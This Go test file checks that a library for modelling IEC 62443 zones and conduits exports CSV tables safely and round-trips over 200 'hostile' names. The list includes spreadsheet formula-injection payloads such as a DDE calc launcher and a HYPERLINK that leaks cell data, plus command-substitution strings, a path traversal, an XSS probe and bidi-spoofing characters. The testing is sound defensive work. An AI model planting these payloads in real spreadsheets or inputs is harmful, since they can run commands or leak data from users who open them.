package tables_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/iec62443-go/iec62443/conduit"
	"github.com/iec62443-go/iec62443/conduit/tables"
	"github.com/iec62443-go/iec62443/level"
	"github.com/iec62443-go/iec62443/requirement"
	"github.com/iec62443-go/iec62443/zone"
)

// hostileNames are names that do harm in a spreadsheet or on a terminal, or that a
// reader is likely to change: 200 of them and some more.
func hostileNames() []string {
	formulas := []string{
		`=1+1`, `=HYPERLINK("http://x/?"&A1,"click")`, `=cmd|'/C calc'!A0`, `@SUM(A1:A9)`, `+1`, `-1`, `-2+3+cmd|'/C calc'!A0`, `+49 30 1234`,
		"＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫x", `=`, `+`, `-`, `@`, `=-1`, `--`, `==`,
	}
	before := []string{"", " ", "\t", "\r", "\n", "\u00a0", "\u3000", `"`, `'`, `''`, "`", "\u201c", "\ufeff", "\u200b", "\x00", "a;", "a,", "a|", "a\n", "a\t", "a; ", `a;"`, "a,'"}
	var out []string
	for i, b := range before {
		for k, f := range formulas {
			if (i+k)%2 == 0 || i == 0 {
				out = append(out, b+f)
			}
		}
	}
	return append(out,
		"'", "''", "'''", "'a", "''a", "a'", `"`, `""`, `"""`, `a"b`, `"a"`, `""a`, `a""`, `","`, `";"`, "a,b", "a;b", "a\tb", "a|b", "sep=;", "#N/A", "n/a", "N/A", "-", "–", "—", "null", "NULL", "k.A.",
		" leading", "trailing ", "  both  ", "\u00a0nbsp\u00a0", "a\nb", "a\r\nb", "a\rb", "\n", "\r", "\r\n", "\t", "\n\n", "a\n", "\nb", "\v", "\f", "\u0085", "\u2028", "\u2029",
		"\x00", "a\x00b", "\x01", "\x1b[31mred\x1b[0m", "\x1b]0;title\a", "\x7f", "\u0080", "\u009b31m", "\b\b\b",
		"\u202eexe.doc", "a\u202db", "\u2066x\u2069", "\u200fx", "\u061cx", "a\u200bb", "a\u200db", "\ufeffx", "x\ufeff", "\u00ad", "\u2060", "\U000e0041", "\ufe0f", "\u034f", "\u115f", "\u3164",
		"{U+000A}", "{U+202E}", "{U+0041}", "{U+41}", "{U+}", "{U+D800}", "{U+110000}", "{U+10FFFF}", "{U+00041}", "{u+0041}", "{U+004a}", "{U+{U+0041}", "{{U+0041}}", "{U+007B}U+0041}", "{", "{U+",
		"{2 2 2 2 2 2 2}", "none", "listed", "yes", "no", "true", "0", "007", "1.10", "1E5", "1.23457E+12", "3.5", "03. Mai", "2026-03-01",
		"<script>alert(1)</script>", "<b>&amp;", "\\", `\n`, `C:\temp\new`, `\\server\share`, `\.`, "$(id)", "`id`", "%0a", "../../etc/passwd", "http://x/?a=b&c=d",
		"Ä ö ß é ñ", "水処理", "محطة", "\u0647\u202e", "zone-\u0430", "e\u0301", "\u0301", "👷‍♀️", "🏭", "\ufffd", "\ufffe", "\uffff", "\ue000", "\U0010ffff", "١٢٣",
		"zone:control", "a>b/c@d", "DHCP", "10.4.0.100-200", "ID", "id,name,zone", strings.Repeat("x", 5000), strings.Repeat("\"", 300), strings.Repeat("=", 300), strings.Repeat("'", 300),
	)
}

// hostilePlant has a hostile name wherever a text may stand.
func hostilePlant(names []string) *conduit.Model {
	at := 0
	next := func() string { at++; return names[at%len(names)] }
	m := &conduit.Model{Zones: []zone.Zone{{ID: "z", Traits: zone.Control, Target: level.MustTarget("2")}, {ID: "-", Name: "-"}, {ID: "n.a."}, {ID: "null"}, {ID: "Z"}, {ID: "--", In: "-"}}}
	for i, n := range names {
		status := requirement.Compensated
		if strings.TrimSpace(n) == "" {
			status = requirement.Met // which needs no reason, and may have one
		}
		reason, err := requirement.ClaimsOf(requirement.Claim{ID: "SR 1.1", Status: status, Reason: n})
		if err != nil {
			panic(err)
		}
		m.Zones = append(m.Zones, zone.Zone{
			ID: zone.ID(fmt.Sprintf("zone%d", i)), Name: n, In: []zone.ID{"", "-", "null", "n.a.", "z", "Z"}[i%6], Owner: next(), DesignatedBy: next(), Marking: next(), Rationale: next(), Claims: reason,
			Addresses: zone.AddressesOf(next(), next(), "10.0.0.0/8"), AccessPoints: zone.NamesOf("-", "c"),
			Characteristics: zone.Characteristics{LogicalBoundary: next(), PhysicalBoundary: next(), PhysicalAccess: next(), Policies: next(), Assumptions: next()},
		})
		m.Assets = append(m.Assets, zone.Asset{
			ID: zone.AssetID(fmt.Sprintf("asset%d", i)), Name: n, Zone: zone.ID(fmt.Sprintf("zone%d", i)), Attached: zone.SetOf("-", "z"), Addresses: zone.AddressesOf(next()),
			Owner: next(), Vendor: next(), Product: next(), Version: next(), CPE: next(), PURL: next(), Marking: next(), Retired: i%3 == 0, Type: requirement.ComponentType(i % 5),
		})
		m.Conduits = append(m.Conduits, conduit.Conduit{
			ID: conduit.ID(fmt.Sprintf("conduit%d", i)), Name: n, Joins: zone.SetOf("-", "z", "null"), Devices: zone.AssetsOf("asset0", zone.AssetID(fmt.Sprintf("asset%d", i))),
			Owner: next(), CarriesFor: next(), Rationale: next(), Marking: next(), Ends: conduit.EndsOf(conduit.End{Zone: "-", Owner: next()}, conduit.End{Zone: "z", Owner: next()}),
			OneWay: []conduit.OneWay{{}, {From: "-", To: "z"}}[i%2], Medium: conduit.Medium(i % 8), Manage: []conduit.Management{{}, conduit.ManagementOf(), conduit.ManageFrom("-", "ssh", "https")}[i%3],
		})
		service := conduit.ServiceName("modbus")
		if conduit.CheckServiceName(conduit.ServiceName(n)) == nil {
			service = conduit.ServiceName(n)
		}
		c := &m.Conduits[i]
		switch i % 3 {
		case 0:
			c.Allow = conduit.PermitNone
		case 1:
			c.Allow = conduit.Permit("-", "z", service, "opc-ua").And(conduit.Permit("-", "z", "any"))
		}
		m.Channels = append(m.Channels, conduit.Channel{
			From: "asset0", To: zone.AssetID(fmt.Sprintf("asset%d", i)), Service: service, Via: conduit.Via("conduit0", "conduit1", "conduit0"), Purpose: n, CarriesFor: next(), EndToEnd: i%2 == 0,
		})
	}
	m.Conduits = append(m.Conduits, conduit.Conduit{ID: "-", Joins: zone.SetOf("z", "Z")}, conduit.Conduit{ID: "c", Joins: zone.SetOf("z", "Z"), AccessPoints: zone.NamesOf("-", "c")})
	return m
}

func TestHostileNamesComeBack(t *testing.T) {
	names := hostileNames()
	if len(names) < 200 {
		t.Fatalf("only %d names", len(names))
	}
	m := hostilePlant(names)
	if _, err := conduit.Compile(m); err != nil {
		t.Fatal(err)
	}
	want := expressible(m)
	for _, sep := range ",;\t|" {
		var out files
		rep, err := tables.Export(m, out.sinks(), tables.Format{Separator: sep})
		if err != nil || len(rep.Notes) > 0 {
			t.Fatal(err, rep.Notes)
		}
		got, rep, err := tables.Import(out.sources(), tables.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("separator %q (-want +got):\n%s", sep, diff)
		}
		if rep.Count(tables.Error) > 0 {
			t.Errorf("separator %q: %v", sep, rep.Err())
		}
		for i := range out {
			harmless(t, out[i].Bytes(), sep)
		}
	}
}

// harmless re-reads a table as others would, and looks for what it should not hold.
func harmless(t *testing.T, text []byte, sep rune) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(text))
	r.Comma = sep
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if lines := bytes.Count(text, []byte{'\n'}); lines != len(rows) {
		t.Errorf("%d lines and %d rows", lines, len(rows))
	}
	for _, row := range rows {
		for _, cell := range row {
			if i := strings.IndexFunc(cell, func(r rune) bool { return !unicode.IsGraphic(r) || unicode.Is(unicode.Variation_Selector, r) }); i >= 0 {
				t.Errorf("cell %+q holds what does not show", cell)
			}
			for i, piece := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;|\t\n", r) }) {
				piece = strings.TrimLeftFunc(piece, func(r rune) bool { return unicode.IsSpace(r) || r == '"' || i > 0 && r == '\'' })
				if strings.IndexAny(piece, "=+-@＝＋－＠﹦﹢﹣﹫") == 0 {
					t.Errorf("cell %+q holds what looks like a formula: %+q", cell, piece)
				}
			}
		}
	}
}

// What a spreadsheet shows is what stands there: words without anything strange in
// them are written as they are.
func TestPlainNamesStayAsTheyAre(t *testing.T) {
	for _, name := range []string{"PLC 1", "Pumpe 3/4\"", "Müller & Söhne", "10.10.1.0/24", "a - b", "C:\\temp", "{x}", "it's", "水処理", "(mgmt)", "50 %", "5 €", "#3"} {
		var out bytes.Buffer
		if err := tables.WriteAssets(&out, &conduit.Model{Assets: []zone.Asset{{ID: "a", Name: name}}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := rows[1][slices.Index(rows[0], "name")]; got != name {
			t.Errorf("%q is written %q", name, got)
		}
	}
}
